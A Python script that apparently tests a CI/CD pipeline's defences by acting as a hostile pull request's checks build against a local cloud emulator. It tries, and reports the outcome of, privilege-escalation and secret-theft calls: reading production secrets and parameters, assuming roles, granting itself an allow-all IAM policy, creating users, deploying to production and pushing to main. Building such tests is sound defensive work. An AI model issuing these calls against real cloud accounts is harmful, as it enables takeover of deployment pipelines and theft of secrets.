"""An attack from a pull request's checks: replaces `delivery/__main__.py`, and reports the outcome of each attempt.

Each attempt prints `attempt NAME: OUTCOME`: DONE if it succeeded, else the error code of the refusal. A checks build
has only the standard library, boto3, git and Docker. `targets.json` beside this file names the targets: an attacker
may know all names.
"""

from __future__ import annotations

import json
import os
import pathlib
import subprocess
import sys
import urllib.error
import urllib.request
from typing import TYPE_CHECKING, Any

import boto3
from botocore.config import Config
from botocore.exceptions import ClientError

if TYPE_CHECKING:
    from collections.abc import Callable

HERE = pathlib.Path(__file__).parent
AT: dict[str, Any] = json.loads((HERE / "targets.json").read_text("utf-8"))
ENDPOINT = os.environ["AWS_ENDPOINT_URL"]
REMOTE = f"{AT['registry']}:candidate-{os.environ['CODEBUILD_BUILD_ID'].rpartition(':')[2]}"
OPERATOR = {"aws_access_key_id": "test", "aws_secret_access_key": "test", "aws_session_token": None}


def client(api: str, **keys: str | None) -> Any:  # noqa: ANN401 - boto3's clients have no static type
    """Return a boto3 client with the build's credentials, or with the given ones."""
    return boto3.session.Session(**keys).client(api, config=Config(retries={"max_attempts": 0}))


def attempt(name: str, what: Callable[[], object]) -> None:
    """Make an attempt and print its outcome."""
    try:
        what()
        outcome = "DONE"
    except ClientError as error:
        outcome = f"{error.response['Error']['Code']} {error.response['Error']['Message']}"
    except urllib.error.HTTPError as error:
        outcome = f"{error.code} {error.read().decode(errors='replace')}"
    except Exception as error:  # noqa: BLE001 - no error may prevent the next attempt
        outcome = f"{type(error).__name__} {error}"
    print(f"attempt {name}: {' '.join(outcome.split())}", flush=True)


def command(*words: str, **variables: str) -> None:
    """Run a command; it must succeed."""
    done = subprocess.run(words, capture_output=True, text=True, env=os.environ | variables, check=False)
    if done.returncode:
        raise RuntimeError(done.stdout + done.stderr)


def get(path: str, data: bytes | None = None) -> None:
    """Send an unsigned request to the gateway."""
    with urllib.request.urlopen(ENDPOINT + path, data=data, timeout=20) as answer:  # noqa: S310 - http
        answer.read()


def calls() -> dict[str, Callable[[], object]]:
    """Return the attempts with the credentials of the build's role."""
    ecr, ecs, pipeline, builds = (client(api) for api in ("ecr", "ecs", "codepipeline", "codebuild"))
    release = {
        "family": AT["family"],
        "containerDefinitions": [{"name": "web", "image": "x"}],
        "taskRoleArn": AT["task_role"],
    }
    image = {"repositoryName": AT["repository"], "imageManifest": "{}"}
    stage = {"pipelineName": AT["pipeline"], "stageName": "Production"}
    answer = {"status": "Approved", "summary": "all is well"}
    build_of_build = {"projectName": AT["build_project"], "buildspecOverride": "version: 0.2\nphases: {}"}
    return {
        "log in to the registry": ecr.get_authorization_token,
        "tag as candidate": lambda: ecr.put_image(**image, imageTag="candidate-evil"),
        "tag as accepted": lambda: ecr.put_image(**image, imageTag="accepted-evil"),
        "read an image": lambda: ecr.batch_get_image(repositoryName=AT["repository"], imageIds=[{"imageTag": "x"}]),
        "deploy to staging": lambda: ecs.update_service(cluster=AT["staging"], service=AT["staging_service"]),
        "deploy to production": lambda: ecs.update_service(cluster=AT["prod"], service=AT["prod_service"]),
        "register a release": lambda: ecs.register_task_definition(**release),
        "run a task": lambda: ecs.run_task(cluster=AT["prod"], taskDefinition=AT["family"]),
        "approve": lambda: pipeline.put_approval_result(
            pipelineName=AT["pipeline"], stageName="Approval", actionName="Approve", token=AT["token"], result=answer
        ),
        "release": lambda: pipeline.start_pipeline_execution(name=AT["pipeline"]),
        "stop production": lambda: pipeline.disable_stage_transition(
            **stage, transitionType="Inbound", reason="evil"
        ),
        "retry a stage": lambda: pipeline.retry_stage_execution(
            **stage, pipelineExecutionId=AT["execution"], retryMode="ALL_ACTIONS"
        ),
        "read the pipeline": lambda: pipeline.get_pipeline(name=AT["pipeline"]),
        "change the pipeline": lambda: pipeline.update_pipeline(pipeline=AT["structure"]),
        "start the build project": lambda: builds.start_build(**build_of_build),
        "change its own project": lambda: builds.update_project(name=AT["checks"], serviceRole=AT["build_role"]),
        "read variables of projects": lambda: builds.batch_get_projects(names=[AT["build_project"]]),
        "read the database's secret": lambda: client("secretsmanager").get_secret_value(SecretId=AT["secret"]),
        "list secrets": client("secretsmanager").list_secrets,
        "read production's parameters": lambda: client("ssm").get_parameters_by_path(Path="/slipway/prod"),
        "read one of production's": lambda: client("ssm").get_parameter(Name="/slipway/prod/environment"),
        "write staging's parameters": lambda: client("ssm").put_parameter(
            Name="/slipway/staging/environment", Value="evil", Type="String", Overwrite=True
        ),
        "read artifacts": lambda: client("s3").list_objects_v2(Bucket=AT["bucket"]),
        "write artifacts": lambda: client("s3").put_object(Bucket=AT["bucket"], Key="evil", Body=b"evil"),
        "read other builds' logs": lambda: client("logs").filter_log_events(logGroupName=AT["log_group"]),
        "take the build's role": lambda: client("sts").assume_role(RoleArn=AT["build_role"], RoleSessionName="evil"),
        "take the tasks' role": lambda: client("sts").assume_role(RoleArn=AT["task_role"], RoleSessionName="evil"),
        "give itself rights": lambda: client("iam").put_role_policy(
            RoleName=AT["checks_role"], PolicyName="evil", PolicyDocument=json.dumps(EVERYTHING)
        ),
        "make a user": lambda: client("iam").create_user(UserName="evil"),
        "tell people": lambda: client("sns").publish(TopicArn=AT["topic"], Message="evil"),
    }  # fmt: skip


SUCCESS = b'{"state": "success"}'
EVERYTHING = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}


def others() -> dict[str, Callable[[], object]]:
    """Return the attempts without those: with the local operator's key, without a key, by GitHub, by Docker."""
    hub = f"{ENDPOINT}/{AT['github']}.git"
    return {
        "operator's key, who am I": client("sts", **OPERATOR).get_caller_identity,
        "operator's key, deploy": lambda: client("ecs", **OPERATOR).update_service(
            cluster=AT["prod"], service=AT["prod_service"]
        ),
        "operator's key, artifacts": lambda: client("s3", **OPERATOR).list_objects_v2(Bucket=AT["bucket"]),
        "no key, artifacts": lambda: get(f"/{AT['bucket']}"),
        "control, clock": lambda: get("/_localcloud/clock/", b"3600"),
        "control, health": lambda: get("/_localcloud/health"),
        "push to main": lambda: command("git", "push", hub, "HEAD:refs/heads/main", GIT_TERMINAL_PROMPT="0"),
        "set its own status": lambda: get(f"/api/v3/repos/{AT['github']}/statuses/{AT['head']}", SUCCESS),
        "push an image by Docker": lambda: command("docker", "push", REMOTE),
        "pull an image by Docker": lambda: command("docker", "pull", f"{AT['registry']}:{AT['tag']}"),
    }  # fmt: skip


def main() -> int:
    """Make all attempts; the build fails, which must show in the commit status."""
    print("attempt its own role:", client("sts").get_caller_identity()["Arn"], flush=True)
    attempt(
        "what checks may, staging's parameters", lambda: client("ssm").get_parameters_by_path(Path="/slipway/staging")
    )
    for name, what in calls().items():
        attempt(name, what)
    base = os.environ["PYTHON_IMAGE"]
    command("docker", "tag", base, REMOTE)
    for name, what in others().items():
        attempt(name, what)
    own = [f"--build-arg=PYTHON_IMAGE={base}", f"--build-arg=AT={ENDPOINT}", f"--build-arg=BUILD={REMOTE}"]
    words = ["docker", "build", "--progress=plain", "--tag", REMOTE, *own, "app"]
    built = subprocess.run(
        words, capture_output=True, text=True, env=os.environ | {"DOCKER_BUILDKIT": "1"}, check=False
    )
    for line in (built.stdout + built.stderr).splitlines():
        if "attempt image" in line:
            print(line[line.index("attempt image") :], flush=True)
    command("docker", "rmi", REMOTE)
    return 1


if __name__ == "__main__":
    sys.exit(main())
